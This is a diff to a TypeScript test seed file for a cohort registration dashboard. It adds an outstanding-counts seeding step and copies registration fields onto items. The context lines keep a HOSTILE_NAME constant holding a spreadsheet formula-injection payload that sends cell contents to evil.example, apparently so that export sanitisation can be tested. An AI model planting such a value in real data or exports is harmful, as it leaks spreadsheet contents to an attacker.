@@ -27,6 +27,7 @@
 import type { Prisma } from '@prisma/client';
 import type { PrismaClient } from '../../src/db/prisma';
 import { defaultCohortPolicy } from '../../workflows/registration/api';
+import { seedOutstandingCounts } from './outstanding-counts';
 
 export const DASHBOARD_NOW = new Date('2027-08-18T04:00:00.000Z');
 export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
@@ -211,11 +212,17 @@ export async function seedDashboardCohort(prisma: PrismaClient, cohortId: string
             submittedAt: x.submittedAt ?? null,
             reviewedAt: x.reviewedAt ?? null,
             expectedVerificationBy: x.expectedVerificationBy ?? null,
+            // The registration's fields, as the projection copies them onto its items.
+            cohortId,
+            programCode: s.programCode,
+            studyLevel: s.studyLevel,
+            registrationStatus: s.status,
           })),
         },
       },
     });
   }
+  await seedOutstandingCounts(prisma, cohortId);
   await prisma.auditEvent.createMany({
     data: [
       { registrationNo: no[0]!, seq: 9, type: 'STATUS_CHANGED', actor: 'system', at: hk(12, '15:00'), data: { status: 'COMPLETED' } },
